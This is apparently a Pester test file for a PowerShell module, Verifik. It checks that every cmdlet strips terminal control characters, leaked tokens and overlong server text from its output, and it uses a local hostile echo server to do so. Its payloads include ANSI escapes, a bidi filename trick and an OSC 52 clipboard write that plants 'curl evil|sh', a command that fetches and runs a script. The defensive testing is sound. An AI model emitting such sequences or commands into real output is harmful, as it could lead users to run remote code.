# The class of hostile text, for every cmdlet and every output type of the module (found here, not listed by hand):
# claims of a token that a server issued or a user adopted, answers of a server that writes terminal controls, echoes
# the token or sends absurdly long text, and a server whose answer .NET quotes inside its own exception. Whatever
# reaches a record the cmdlet writes (output objects and their views, ToString(), warnings, verbose lines, errors with
# their whole exception chain, Get-Error, $Error exported with Export-Clixml) holds no control or format character,
# not the token, and no server text past the cap (docs/security.md, promise 4).
BeforeDiscovery {
    Import-Module (Join-Path $PSScriptRoot '../../tools/Verifik.TestHelpers.psm1') -Force
    Import-Module (Get-VerifikModulePath) -Force
    $script:cmdlets = @((Get-Command -Module Verifik -CommandType Cmdlet).Name | Sort-Object)
    $script:worlds = @('claims issued and adopted', 'error answers', 'an answer .NET quotes')
    $script:cases = foreach ($world in $worlds) { foreach ($name in $cmdlets) { @{ World = $world; Name = $name } } }
}

BeforeAll {
    Import-Module (Join-Path $PSScriptRoot '../../tools/Verifik.TestHelpers.psm1') -Force
    Import-Module (Get-VerifikModulePath) -Force
    $script:emulator = Start-TestEmulator
    $script:modulePath = Get-VerifikModulePath
    # Views and Get-Error without the colours they add themselves, so that any escape left is one a server sent.
    $script:rendering = $PSStyle.OutputRendering
    $PSStyle.OutputRendering = 'PlainText'

    # Cmdlets that reach no server and hold no token: nothing hostile can reach what they write.
    $script:exempt = @{
        'New-VerifikSession' = 'makes a session from its parameters alone: no token, no server'
    }

    # How each cmdlet is run against the hostile server; a new cmdlet fails 'is classified' until it is added here.
    # Ordered, with Disconnect-Verifik last, so that running them all in one world leaves each its token.
    $script:runs = [ordered]@{
        'Confirm-VerifikOtp' = { Confirm-VerifikOtp -Email ana@example.com -Otp 123456 -Session $session }
        'Connect-Verifik' = { Connect-Verifik -AccessToken $jwt -Session $session -PassThru }
        'Get-VerifikSession' = {
            # It shows the runspace's default session: one of its own, so that this file's stays as it was.
            1 | ForEach-Object -Parallel {
                Import-Module $using:modulePath
                Connect-Verifik -AccessToken $using:jwt -BaseUri $using:session.BaseUri
                Get-VerifikSession
            }
        }
        'Get-VerifikToken' = { Get-VerifikToken -Session $session }
        'Test-VerifikToken' = { Test-VerifikToken -MinimumValidity (New-TimeSpan -Days 400) -Session $session -Verbose }
        'Invoke-VerifikRequest' = { Invoke-VerifikRequest -Path /v2/clients/me -Session $session }
        'Request-VerifikOtp' = { Request-VerifikOtp -Email ana@example.com -Session $session }
        'Update-VerifikToken' = { Update-VerifikToken -Session $session -PassThru }
        'Disconnect-Verifik' = { Disconnect-Verifik -Session $session }
    }

    # ESC and CSI erase-line, an OSC 52 clipboard write, 8-bit CSI, a bidi override, and W enough to pass the cap.
    $script:osc52 = "`e]52;c;$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('curl evil|sh')))`a"
    $script:hostile = "ana`e[2K$osc52$([char]0x9b)31m$([char]0x202e)exe.gnp"
    $script:longRun = 'W' * 46000
    # The cap on server text, read where it is kept.
    $script:cap = [Verifik.VerifikToken].Assembly.GetType('Verifik.ServerText').GetField('MaxLength', [Reflection.BindingFlags]'NonPublic, Static').GetRawConstantValue()
    function ConvertTo-Base64Url([string]$Text) {
        [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($Text)).TrimEnd('=').Replace('+', '-').Replace('/', '_')
    }
    $script:signature = 'hostileSignature' + [guid]::NewGuid().ToString('N')
    function New-HostileToken([string]$ClientId) {
        $claims = @{ clientId = $ClientId; sub = $hostile; expiresAt = [DateTimeOffset]::UtcNow.AddDays(1).ToUnixTimeSeconds() }
        (ConvertTo-Base64Url '{"alg":"HS256","typ":"JWT"}') + '.' + (ConvertTo-Base64Url ($claims | ConvertTo-Json -Compress)) + '.' + $signature
    }
    # A claim of 46,000 characters, and a token short enough for .NET to quote whole in an exception message.
    $script:longJwt = New-HostileToken "$hostile$longRun"
    $script:shortJwt = New-HostileToken $hostile

    # A server on a raw socket: .NET refuses its header name, which holds the request's Authorization value (else its
    # request line) between terminal controls, and quotes that name in the HttpRequestException it raises.
    Add-Type -TypeDefinition @'
using System; using System.Net; using System.Net.Sockets; using System.Text; using System.Threading.Tasks;
public sealed class HostileTextEchoServer : IDisposable
{
    private readonly TcpListener _listener = new TcpListener(IPAddress.Loopback, 0);
    public HostileTextEchoServer() { _listener.Start(); Task.Run(AcceptAsync); }
    public int Port => ((IPEndPoint)_listener.LocalEndpoint).Port;
    public void Dispose() => _listener.Stop();
    private async Task AcceptAsync()
    {
        while (true)
        {
            TcpClient client;
            try { client = await _listener.AcceptTcpClientAsync(); } catch (Exception) { return; }
            _ = Task.Run(() => Answer(client));
        }
    }
    private static void Answer(TcpClient client)
    {
        using (client)
        {
            var stream = client.GetStream();
            var received = new StringBuilder();
            var buffer = new byte[65536];
            while (!received.ToString().Contains("\r\n\r\n"))
            {
                var read = stream.Read(buffer, 0, buffer.Length);
                if (read == 0) { return; }
                received.Append(Encoding.Latin1.GetString(buffer, 0, read));
            }
            var lines = received.ToString().Split("\r\n");
            var authorization = Array.Find(lines, line => line.StartsWith("Authorization: ", StringComparison.OrdinalIgnoreCase));
            var echoed = authorization is null ? lines[0] : authorization.Substring("Authorization: ".Length);
            var answer = "HTTP/1.1 200 OK\r\n\u001b[2K\u001b]52;c;Y3VybCBldmlsfHNo\u0007" + echoed + "\u009b31m: x\r\nContent-Length: 0\r\n\r\n";
            var bytes = Encoding.Latin1.GetBytes(answer);
            stream.Write(bytes, 0, bytes.Length);
        }
    }
}
'@
    $script:echoServer = [HostileTextEchoServer]::new()

    # Each world: a session holding the hostile token (as a user would adopt it), on a server that is hostile its way.
    function Initialize-World([string]$World) {
        Reset-TestEmulator -Emulator $emulator
        $quoted = $World -eq 'an answer .NET quotes'
        $baseUri = if ($quoted) { "http://127.0.0.1:$($echoServer.Port)" } else { $emulator.BaseUri }
        $script:jwt = if ($quoted) { $shortJwt } else { $longJwt }
        $script:session = New-VerifikSession -BaseUri $baseUri -MaximumRetryCount 0
        Connect-Verifik -AccessToken $jwt -Session $session
        $paths = '/v2/projects/email-login', '/v2/projects/email-login/confirm', '/v2/auth/session', '/v2/clients/me'
        foreach ($path in $paths) {
            $fault = switch ($World) {
                'claims issued and adopted' {
                    # A sign-in and a renewal issue the hostile token; the rest answer as the emulator does.
                    if ($path -eq '/v2/projects/email-login/confirm') { @{ status = 200; body = (@{ data = @{ accessToken = $jwt } } | ConvertTo-Json -Compress) } }
                    elseif ($path -eq '/v2/auth/session') { @{ status = 200; body = (@{ accessToken = $jwt } | ConvertTo-Json -Compress) } }
                }
                'error answers' {
                    $text = "$hostile $jwt $longRun$([char]0x2028)$([char]0x2029)`r`nX"
                    @{ status = 418; reasonPhrase = "Teapot $jwt `e[2K"; body = (@{ code = "Evil$osc52"; message = $text } | ConvertTo-Json -Compress) }
                }
            }
            if ($fault) {
                $null = Invoke-TestEmulator -Emulator $emulator -Method POST -Path '/_emulator/faults' -Body ($fault + @{ path = $path; times = 5 })
            }
        }
    }

    # Every record the run writes, verbose on, terminating errors included, then every text a user can get from them.
    function Get-EveryText([scriptblock]$Run) {
        $global:Error.Clear()
        $records = [System.Collections.Generic.List[object]]::new()
        $VerbosePreference = 'Continue'
        try {
            & $Run *>&1 | ForEach-Object { $records.Add($_) }
        }
        catch {
            $records.Add($_)
        }
        $VerbosePreference = 'SilentlyContinue'

        $exported = Join-Path ([IO.Path]::GetTempPath()) "verifik-hostile-$([guid]::NewGuid().ToString('N')).xml"
        try {
            $global:Error | Export-Clixml -LiteralPath $exported
            # Clixml writes a control character as _xHHHH_; read back, it is the character again.
            $clixml = [regex]::Replace((Get-Content -LiteralPath $exported -Raw), '_x([0-9A-Fa-f]{4})_', { [string][char][Convert]::ToInt32($args[0].Groups[1].Value, 16) })
        }
        finally {
            Remove-Item -LiteralPath $exported -ErrorAction Ignore
        }

        $texts = foreach ($record in $records) {
            "$record"
            if ($record -is [System.Management.Automation.ErrorRecord]) {
                $record.Exception.ToString()
                "$($record.ErrorDetails)"
                $record | Get-Error | Out-String -Width 100000
            }
            elseif ($record -isnot [System.Management.Automation.InformationalRecord]) {
                $record.ToString()
                $record | Format-List * | Out-String -Width 100000
                $record | Out-String -Width 100000
            }
        }
        [pscustomobject]@{ Records = $records.ToArray(); Text = (@($texts) + $clixml) -join "`n" }
    }

    # What is wrong with the text, in a few words each: the text itself is too long to print.
    function Find-Leak([string]$Text) {
        $control = [regex]::Match($Text, '[\p{Cc}\p{Cf}\u2028\u2029-[\r\n\t]]')
        if ($control.Success) {
            $at = [Math]::Max(0, $control.Index - 60)
            'U+{0:X4} after "{1}"' -f [int]$control.Value[0], ($Text.Substring($at, $control.Index - $at) -replace '[\p{C}]', '?')
        }
        if ($Text.Contains($signature) -or $Text.Contains($jwt.Substring(0, 80))) { 'the token' }
        $long = [regex]::Match($Text, "W{$($cap + 1),}")
        if ($long.Success) { "a claim of $($long.Length) characters, past the cap" }
    }
}

AfterAll {
    $PSStyle.OutputRendering = $rendering
    $echoServer.Dispose()
    Stop-TestEmulator -Emulator $emulator
}

Describe 'Hostile text' {
    It 'every cmdlet of the module is run here or exempt with a reason' {
        $unclassified = @($cmdlets | Where-Object { -not $runs.Contains($_) -and -not $exempt.Contains($_) })
        $gone = @(@($runs.Keys) + @($exempt.Keys) | Where-Object { $_ -notin $cmdlets })

        $unclassified | Should -BeNullOrEmpty -Because 'a new cmdlet must be run against a hostile server here, or exempt with a reason'
        $gone | Should -BeNullOrEmpty
    }

    It '<Name>, on <World>, writes no control character, no token and nothing past the cap' -ForEach $cases {
        if ($exempt.Contains($Name)) {
            Set-ItResult -Skipped -Because $exempt[$Name]
            return
        }
        Initialize-World $World

        $seen = Get-EveryText $runs[$Name]

        Find-Leak $seen.Text | Should -BeNullOrEmpty
    }

    It '<_> keeps what failed under an answer .NET quotes: its type and a cleaned message' -ForEach 'Invoke-VerifikRequest', 'Update-VerifikToken' {
        Initialize-World 'an answer .NET quotes'

        $failure = @((Get-EveryText $runs[$_]).Records | Where-Object { $_ -is [System.Management.Automation.ErrorRecord] })[0]

        $failure.FullyQualifiedErrorId | Should -BeLike 'Verifik.ConnectionFailed,*'
        $failure.Exception.InnerException.ToString() | Should -Match 'HttpRequestException.*invalid header name'
    }

    It 'every output type with a view is shown with hostile claims in it' {
        $viewed = @((Get-FormatData -TypeName 'Verifik.*').TypeNames | Sort-Object -Unique)
        Initialize-World 'claims issued and adopted'
        $shown = foreach ($name in $runs.Keys) {
            (Get-EveryText $runs[$name]).Records | Where-Object { $_ -isnot [System.Management.Automation.ErrorRecord] } | ForEach-Object { $_.PSObject.TypeNames[0] }
        }

        $viewed | Should -Not -BeNullOrEmpty
        $viewed | Where-Object { $_ -notin $shown } | Should -BeNullOrEmpty -Because 'each view must be shown in the runs above'
    }
}
